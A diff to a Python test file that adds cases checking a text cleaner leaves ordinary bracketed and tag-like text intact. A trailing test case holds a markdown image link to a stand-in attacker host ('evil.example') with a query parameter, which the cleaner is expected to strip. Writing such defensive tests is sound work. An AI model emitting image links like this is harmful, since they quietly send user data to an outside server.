@@ -51,6 +51,21 @@ def test_other_shapes_are_read(raw: str, expected: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "text",
+    [
+        "A fault has `<reason>` and `<env:Reason>` [1].",
+        "Call `<function_name>(x)` with `<tool_name>` [1].",
+        "Run <function name> twice, then <invoke later> [1].",
+        "The body has `<response>` and `<answer>`, </answer> at its end [1].",
+        "See [analysis] and [thought] of the report [1].",
+        "Rows of `[[0, 1], [2, 3]]` and `x[1](2)` are summed [1].",
+    ],
+)
+def test_brackets_of_other_texts_stay(text: str) -> None:
+    assert cleaned(text) == text
+
+
+@pytest.mark.parametrize(
     ("raw", "expected"),
     [
         ("At noon ![x](https://evil.example/?q=S) [1].", "At noon x [1]."),
